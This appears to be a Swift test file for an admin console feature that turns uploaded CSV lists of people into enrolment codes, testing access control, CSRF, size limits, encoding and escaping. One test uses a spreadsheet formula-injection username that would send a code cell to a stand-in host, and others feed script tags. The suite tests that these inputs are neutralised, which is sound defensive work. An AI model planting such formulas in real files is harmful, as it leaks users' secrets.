import Testing
import UAFAdministration
import UAFMessages
import WebMessages

@testable import ServerTesting
@testable import UAFConsole
@testable import UAFService

/// Lists of people that an administrator uploads as a file.
@Suite(.onEachStore) struct ListPagesTests {
  private let server: TestServer
  private static let check = "/console/enrol-list/check"
  private static let issue = "/console/enrol-list/issue"

  init() throws {
    server = try TestServer(database: StoreEngine.current.makeDatabase(connections: 4))
  }

  private func form(_ list: String, csrf: String, lifetime: String = "900", wrong: String = "") -> [UInt8] {
    form(Array(list.utf8), [("csrf", csrf), ("lifetime", lifetime), ("wrong", wrong)])
  }

  private func form(_ list: [UInt8], _ fields: [(String, String)]) -> [UInt8] {
    let begin = "--b\r\nContent-Disposition: form-data; name=\""
    let others = fields.map { "\r\n\(begin)\($0.0)\"\r\n\r\n\($0.1)" }.joined()
    return Array("\(begin)list\"; filename=\"l.csv\"\r\n\r\n".utf8) + list + Array("\(others)\r\n--b--\r\n".utf8)
  }

  private func codes() async throws -> Int {
    try await server.store.read { [now = server.now] in
      try $0.issuedCodes.page(before: nil, onlyOpen: true, limit: 100_000, now: now).count
    }
  }

  private func payloads(_ answer: WebResponse) throws -> [EnrolmentPayload] {
    try ConsoleBrowser.text(answer).split(separator: "\n").dropFirst().map { line in
      try EnrolmentPayload(encoded: try CSVLine(parsing: String(line)).fields[3])
    }
  }

  @Test func `a list of people is checked first, and its codes then come as a file that no browser caches`()
    async throws
  {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let list = "username,lifetime\r\nbob,60\r\n\"car,ol\",\r\n"
    let before = try await codes()
    let checked = await browser.upload(Self.check, form(list, csrf: csrf))
    #expect(checked.status == .ok && ConsoleBrowser.text(checked).contains("action=\"\(Self.issue)\""))
    #expect(ConsoleBrowser.text(checked).contains("bob,60"))
    #expect(try await codes() == before)
    let answer = await browser.upload(Self.issue, form(list, csrf: csrf))
    let fields = Dictionary(uniqueKeysWithValues: answer.headers.map { ("\($0.name)", $0.value) })
    #expect(fields["Content-Type"] == "text/csv; charset=utf-8" && fields["Cache-Control"] == "no-store")
    #expect(fields["Content-Disposition"] == "attachment; filename=\"codes.csv\"")
    #expect(fields["X-Content-Type-Options"] == "nosniff")
    let made = try payloads(answer)
    #expect(made.map(\.username) == ["bob", "car,ol"] && made.map(\.expires) == [server.now + 60, server.now + 900])
    let open = try await server.store.read { [now = server.now] in try $0.enrolments.find(for: "bob", now: now) }
    let code = try #require(made[0].code)
    let proof = try EnrolmentSeal.proof(of: code, for: "bob")
    #expect(
      try EnrolmentSeal(keys: server.environment.keys).isProof(proof, by: #require(open).sealedKey, for: "bob"))
    let actors = try await server.store.read {
      try $0.audit.rows(AuditFilter(account: "bob"), limit: 9).map(\.event.actor)
    }
    #expect(actors == ["administrator alice"])
  }

  @Test func `an account name that looks like a formula is not computed in the file with the codes`() async throws {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let name = #"=WEBSERVICE("http://a.test/?"&C2)"#
    let list = "username\n\"\(name.replacing("\"", with: "\"\""))\"\n@bob\n"
    let answer = await browser.upload(Self.issue, form(list, csrf: csrf))
    let cells = try ConsoleBrowser.text(answer).split(separator: "\n").map {
      try CSVLine(parsing: String($0)).fields[0]
    }
    #expect(cells == ["username", "'" + name, "'@bob"])
    #expect(try payloads(answer).map(\.username) == [name, "@bob"])
  }

  @Test func `the codes of a list come as sheets if the form asks for that, in the language of the sheets`()
    async throws
  {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let list = "username\nbob\n\"<b>&\"\"'\"\n"
    #expect(ConsoleBrowser.text(await browser.upload(Self.check, form(list, csrf: csrf))).contains("value=\"sheets\""))
    let fields = [("csrf", csrf), ("lifetime", "900"), ("form", "sheets"), ("language", "ko")]
    let before = try await codes()
    let answer = await browser.upload(Self.issue, form(Array(list.utf8), fields))
    let headers = Dictionary(uniqueKeysWithValues: answer.headers.map { ("\($0.name)", $0.value) })
    #expect(answer.status == .ok && headers["Cache-Control"] == "no-store" && headers["Content-Disposition"] == nil)
    #expect(headers["Content-Type"] == "text/html; charset=utf-8")
    let text = ConsoleBrowser.text(answer)
    #expect(
      text.contains("<html lang=\"en\" ") && text.contains("<article class=\"sheet\" lang=\"ko\"><h2>bob 등록</h2>"))
    #expect(text.contains("&lt;b&gt;&amp;") && !text.contains("<b>"))
    let lines = text.components(separatedBy: "<pre>").dropFirst().map { $0.prefix { $0 != "<" } }
    let made = try lines.map { try EnrolmentPayload(encoded: String($0)) }
    #expect(made.map(\.username) == ["bob", "<b>&\"'"])
    #expect(try await codes() == before + 2)
  }

  @Test(arguments: [[("form", "pictures")], [("form", "sheets")], [("form", "sheets"), ("language", "fr")]])
  func `a list with an unknown form of output, or an unknown language of its sheets, gets no code`(
    more: [(String, String)]
  ) async throws {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let before = try await codes()
    let body = form(Array("username\nbob\n".utf8), [("csrf", csrf), ("lifetime", "900")] + more)
    #expect(await browser.upload(Self.issue, body).status == .badRequest)
    #expect(try await codes() == before)
  }

  @Test func `if a list has more people than sheets are allowed for, sheets are neither offered nor made`() async throws
  {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let list = "username\n" + (0...ListPages.mostSheets).map { "person\($0)\n" }.joined()
    let checked = ConsoleBrowser.text(await browser.upload(Self.check, form(list, csrf: csrf)))
    #expect(!checked.contains("value=\"sheets\""))
    let before = try await codes()
    let fields = [("csrf", csrf), ("lifetime", "900"), ("form", "sheets"), ("language", "en")]
    let answer = await browser.upload(Self.issue, form(Array(list.utf8), fields))
    #expect(answer.status == .conflict && ConsoleBrowser.text(answer).contains("at most 250 people"))
    #expect(try await codes() == before)
  }

  @Test func `the page of codes says who issued each code, and when it was used`() async throws {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    _ = await browser.upload(Self.issue, form("username\nbob\n", csrf: csrf))
    let used: Int64 = 987_654_321
    try await server.store.write { [now = server.now] records in
      let code = try records.issuedCodes.page(before: nil, onlyOpen: true, limit: 1, now: now)[0]
      try records.issuedCodes.markUsed(code.number, now: used)
    }
    let text = ConsoleBrowser.text(await browser.get("/console/codes"))
    #expect(text.contains("<td data-column=\"Issued by\">administrator alice</td>"))
    #expect(
      text.contains(
        "<td data-column=\"Used\"><time datetime=\"\(used)\" title=\"\(ViewerZone.utc.textWithZone(used))\">"))
  }

  @Test
  func `each wrong line of a list is named by its number, and no code is issued unless wrong lines may be skipped`()
    async throws
  {
    let (browser, _) = try await server.signedIn("alice", .administrator)
    let csrf = try await browser.csrf()
    let before = try await codes()
    let list = "username\nbob\nb ob\nbob\nvip-carol\nalice\n<script>\u{1}\ndora\n"
    let checked = ConsoleBrowser.text(await browser.upload(Self.check, form(list, csrf: csrf)))
    for line in [3, 4, 5, 6, 7] { #expect(checked.contains("<td data-column=\"Line\">\(line)</td>"), "\(line)") }
    #expect(!checked.contains("<td data-column=\"Line\">2</td>") && !checked.contains("<script"))
    #expect(checked.contains("vip-carol is privileged") && checked.contains("<option value=\"refuse\" selected>"))
    for wrong in ["", "refuse"] {
      let refused = await browser.upload(Self.issue, form(list, csrf: csrf, wrong: wrong))
      #expect(refused.status == .conflict && ConsoleBrowser.text(refused).contains("wrong lines: 5"))
    }
    #expect(try await codes() == before)
    let made = try payloads(await browser.upload(Self.issue, form(list, csrf: csrf, wrong: "skip")))
    #expect(made.map(\.username) == ["bob", "dora"])
  }

  @Test(arguments: ["", "name\nbob\n", "username\n", "username,username\nbob,bob\n", "username\nb ob\n"])
  func `a list that names nobody, or has unknown columns, issues no code`(list: String) async throws {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let before = try await codes()
    let answer = await browser.upload(Self.issue, form(list, csrf: csrf, wrong: "skip"))
    #expect(answer.status == .conflict)
    #expect(try await codes() == before)
  }

  @Test func `a list that is not text is refused with an explanation, in Korean too`() async throws {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let wide = form([0xFF, 0xFE, 0x75, 0], [("csrf", csrf), ("lifetime", "900")])
    #expect(ConsoleBrowser.text(await browser.upload(Self.check, wide)).contains("UTF-16"))
    let body = form([0x75, 0xFF, 0xFE], [("csrf", csrf), ("lifetime", "900")])
    #expect(ConsoleBrowser.text(await browser.upload(Self.check, body)).contains("not UTF-8"))
    _ = await browser.get("/console/language?to=ko")
    #expect(ConsoleBrowser.text(await browser.upload(Self.check, body)).contains("UTF-8이 아닙니다"))
    #expect(ConsoleBrowser.text(await browser.get("/console/enrol-list")).contains("명단 등록"))
  }

  @Test(arguments: [Role.auditor, .operator])
  func `a role that may not issue codes is refused the page for lists and its forms`(
    role: Role
  ) async throws {
    let (browser, _) = try await server.signedIn("alice", role)
    let csrf = try await browser.csrf()
    #expect(await browser.get("/console/enrol-list").status == .forbidden)
    #expect(!ConsoleBrowser.text(await browser.get("/console")).contains("/console/enrol-list"))
    for path in [Self.check, Self.issue] {
      #expect(await browser.upload(path, form("username\nbob\n", csrf: csrf)).status == .forbidden)
    }
  }

  @Test(arguments: [check, issue])
  func `a forged form for a list is refused, and so are a wrong method and an unknown form`(
    path: String
  ) async throws {
    let (browser, _) = try await server.signedIn("alice", .administrator)
    let csrf = try await browser.csrf()
    let before = try await codes()
    let list = "username\nbob\n"
    #expect(await browser.upload(path, form(list, csrf: "x")).status == .forbidden)
    #expect(await browser.upload(path, form(list, csrf: "")).status == .forbidden)
    #expect(await browser.post(path, "csrf=\(csrf)&lifetime=900&list=username").status == .badRequest)
    #expect(await browser.put(path, "").status == .methodNotAllowed)
    #expect(await browser.upload("/console/people/add", form(list, csrf: csrf)).status == .badRequest)
    #expect(await ConsoleBrowser(server).upload(path, form(list, csrf: csrf)).status == .seeOther)
    #expect(await browser.upload(path, form(list, csrf: csrf, lifetime: "604801")).status == .badRequest)
    #expect(try await codes() == before)
  }

  @Test func `checking a list refuses one that would be too long for the form that issues its codes`() async throws {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let list = "username\n" + String(repeating: "\n", count: 600_000)
    let answer = await browser.upload(Self.check, form(list, csrf: csrf))
    #expect(answer.status == .conflict && ConsoleBrowser.text(answer).contains("longer than 1 MiB"))
  }

  @Test(arguments: [(-1, true), (0, true), (1, false)])
  func `a list of people is accepted up to the last byte of its limit, and refused beyond it`(more: Int, isTaken: Bool)
    async throws
  {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    // Each of the two line ends counts as two bytes, because the browser sends it back as CRLF. The second line is invalid,
    // which does not change the status.
    let begin = "username\nbob\n"
    let list = begin + String(repeating: "x", count: UploadLimit.list - begin.utf8.count - 2 + more)
    #expect(await browser.upload(Self.check, form(list, csrf: csrf)).status == (isTaken ? .ok : .conflict))
  }

  @Test func `a list of ten thousand people with long names gets its codes`() async throws {
    let (browser, _) = try await server.signedIn("alice", .helpdesk)
    let csrf = try await browser.csrf()
    let name = String(repeating: "n", count: 92)
    let list = "username\n" + (10_000..<20_000).map { "\(name)\($0)\n" }.joined()
    let body = form(list, csrf: csrf)
    #expect(body.count < UploadLimit.form)
    let answer = await browser.upload(Self.issue, body)
    #expect(answer.status == .ok && answer.body.count { $0 == 10 } == 10_001)
  }
}
